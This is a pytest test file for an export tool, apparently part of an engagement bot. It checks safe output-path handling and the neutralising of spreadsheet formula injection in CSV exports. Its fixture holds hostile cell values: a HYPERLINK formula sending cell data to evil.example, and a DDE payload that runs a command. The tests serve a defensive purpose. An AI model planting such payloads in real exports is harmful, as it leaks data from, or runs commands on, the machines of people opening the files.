"""Where exports and the report may write (issue 17.2) and what a spreadsheet
may run (issue 17.3)."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from datetime import datetime, timezone

import pytest

from bot.engage.worklist import Worklist
from storage.db import connect
from test_export import seed_fixture

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3",
            "\t=1+1", "\r=1+1"]


@pytest.fixture
def seeded(tmp_path, cli):
    db = connect(tmp_path / "huaxiang.db")
    seed_fixture(db)
    for i, name in enumerate(FORMULAS):
        db.execute("UPDATE users SET name = ? WHERE uid = ?", (name, str(1000000 + 2 * i)))
    db.execute("UPDATE queue SET text = ?", (FORMULAS[0],))
    db.execute("INSERT INTO audit_log (at, actor, action, item_id) VALUES ('2026-11-20T12:00:00+00:00', ?, 'edit', 1)",
                    (FORMULAS[2],))
    db.close()


# -- 17.2: only regular files we may write; - is stdout ---------------------------------

@pytest.fixture
def device(tmp_path) -> str:
    """A character device like /dev/full. As root (where the old code replaced
    the real /dev/full with a regular file) a private node in tmp_path, so a
    regression cannot damage the machine; otherwise /dev/full itself, which
    nobody else may replace."""
    if os.geteuid() != 0:
        return "/dev/full"
    node = tmp_path / "full"
    try:
        os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(1, 7))
    except OSError:                   # a container without CAP_MKNOD: a pipe is refused the same way
        os.mkfifo(node)
    return str(node)


@pytest.mark.parametrize("cmd", [["export", "audience", "1"], ["export", "queue"], ["report"]])
def test_a_device_node_is_refused_and_left_alone(seeded, cli, tmp_path, cmd, device):
    code, out, err = cli(*cmd, "-o", device)
    assert code == 1 and f"{device}: is a device" in err and "Traceback" not in err
    assert not stat.S_ISREG(os.stat(device).st_mode)


def test_a_symlink_to_a_device_or_a_folder_is_refused(seeded, cli, tmp_path):
    (tmp_path / "nul.csv").symlink_to("/dev/null")
    code, out, err = cli("export", "queue", "-o", "nul.csv")
    assert code == 1 and "nul.csv: is a device" in err
    assert (tmp_path / "nul.csv").is_symlink()
    (tmp_path / "dir.csv").mkdir()
    code, out, err = cli("export", "queue", "-o", "dir.csv")
    assert code == 1 and "is a folder" in err


def test_a_read_only_file_is_refused_and_kept(seeded, cli, tmp_path):
    ro = tmp_path / "ro.csv"
    ro.write_text("keep me\n")
    ro.chmod(0o444)
    for cmd in (["export", "audience", "1"], ["report"]):
        code, out, err = cli(*cmd, "-o", "ro.csv")
        assert code == 1 and "ro.csv: the file is read-only" in err, err
    assert ro.read_text() == "keep me\n"


def test_a_symlink_to_a_regular_file_replaces_the_file_and_keeps_the_link(seeded, cli, tmp_path):
    real = tmp_path / "real.csv"
    real.write_text("old\n")
    real.chmod(0o640)
    (tmp_path / "link.csv").symlink_to("real.csv")
    code, out, err = cli("export", "queue", "-o", "link.csv")
    assert code == 0, err
    assert (tmp_path / "link.csv").is_symlink() and real.read_text(encoding="utf-8-sig").startswith("id,status")
    assert stat.S_IMODE(real.stat().st_mode) == 0o640       # the old file's permissions survive the rename


def test_dash_writes_to_standard_output(seeded, cli, tmp_path):
    code, out, err = cli("export", "queue", "-o", "-")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out.lstrip("\ufeff"))))
    assert len(rows) == 4 and "wrote 4 rows to standard output" in err
    assert not (tmp_path / "-").exists()


def test_dev_stdout_means_standard_output_by_name():
    # Not run through the CLI: a regression would replace the machine's /dev/stdout as root.
    from bot.report.exports.writers import is_stdout

    assert is_stdout("-") and is_stdout("/dev/stdout") and is_stdout("/dev/fd/1")
    assert not is_stdout("/dev/stderr") and not is_stdout("out.csv") and not is_stdout(None)


def test_report_and_binary_exports_to_a_pipe(seeded, tmp_path):
    html = subprocess.run([sys.executable, "-m", "bot", "report", "-o", "-"], cwd=tmp_path, capture_output=True, timeout=300)
    assert html.returncode == 0, html.stderr
    assert html.stdout.startswith(b"<!DOCTYPE html>") and b"wrote standard output" in html.stderr
    xlsx = subprocess.run([sys.executable, "-m", "bot", "export", "audience", "1", "--format", "xlsx", "-o", "-"],
                          cwd=tmp_path, capture_output=True, timeout=120)
    assert xlsx.returncode == 0 and xlsx.stdout.startswith(b"PK"), xlsx.stderr
    assert sorted(p.name for p in tmp_path.iterdir() if p.suffix in (".html", ".xlsx", ".json")) == []


# -- 17.3: formula injection -----------------------------------------------------------------

def _csv(path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def _cells(rows: list[dict[str, str]]) -> list[str]:
    return [v for r in rows for v in r.values()]


def _dangerous(cells: list[str]) -> list[str]:
    return [c for c in cells if c and c[0] in "=+-@\t\r"]


def test_audience_queue_and_actions_csv_are_neutralised(seeded, cli, tmp_path):
    for what in (["audience", "1"], ["audience", "2"], ["queue"], ["actions"], ["memberships"]):
        code, out, err = cli("export", *what, "-o", "x.csv")
        assert code == 0, err
        cells = _cells(_csv(tmp_path / "x.csv"))
        assert _dangerous(cells) == [], what
    code, out, err = cli("export", "audience", "1", "-o", "a.csv")
    names = {r["name"] for r in _csv(tmp_path / "a.csv")}
    assert "'" + FORMULAS[0] in names and "'@SUM(1+1)" in names
    assert "cells starting with = + - @" in err
    relevance = [r["relevance"] for r in _csv(tmp_path / "a.csv")]
    assert all(not v.startswith("'") for v in relevance)                     # numbers are left alone


def test_raw_csv_option_and_setting_keep_cells_as_stored(seeded, cli, tmp_path):
    code, out, err = cli("export", "queue", "-o", "raw.csv", "--raw-csv")
    assert code == 0, err
    assert {r["draft"] for r in _csv(tmp_path / "raw.csv")} == {FORMULAS[0]}
    (tmp_path / "huaxiang.toml").write_text("[report]\nraw_csv = true\n", encoding="utf-8")
    code, out, err = cli("export", "actions", "-o", "act.csv")
    assert code == 0, err
    assert "@SUM(1+1)" in {r["actor"] for r in _csv(tmp_path / "act.csv")}


def test_xlsx_and_jsonl_keep_the_text_and_never_make_a_formula(seeded, cli, tmp_path):
    from openpyxl import load_workbook

    code, out, err = cli("export", "queue", "--format", "xlsx", "-o", "q.xlsx")
    assert code == 0, err
    ws = load_workbook(tmp_path / "q.xlsx").active
    drafts = [c.value for c in next(ws.iter_cols(min_col=16, max_col=16))][1:]
    assert set(drafts) == {FORMULAS[0]}
    code, out, err = cli("export", "queue", "--format", "jsonl", "-o", "q.jsonl")
    assert {json.loads(l)["draft"] for l in (tmp_path / "q.jsonl").read_text(encoding="utf-8").splitlines()} == {FORMULAS[0]}


def test_manual_worklist_csv_is_neutralised(tmp_path, settings):
    wl = Worklist(settings, tmp_path / "wl", started=datetime(2026, 11, 20, tzinfo=timezone.utc))
    detail = {"id": 7, "kind": "reply", "audience": "=1+1", "user_name": FORMULAS[0], "target_uid": "1",
              "platform": "weibo", "post_pid": "9", "text": "@SUM(1+1) 你好", "post_text": "-2+3 好文"}
    wl.add(detail, datetime(2026, 11, 20, 3, tzinfo=timezone.utc))
    (row,) = _csv(wl.csv_path)
    assert _dangerous(list(row.values())) == []
    assert row["user"] == "'" + FORMULAS[0] and row["text"] == "'@SUM(1+1) 你好"
    settings.report.raw_csv = True
    raw = Worklist(settings, tmp_path / "raw", started=datetime(2026, 11, 20, tzinfo=timezone.utc))
    raw.add(detail, datetime(2026, 11, 20, 3, tzinfo=timezone.utc))
    assert _csv(raw.csv_path)[0]["user"] == FORMULAS[0]
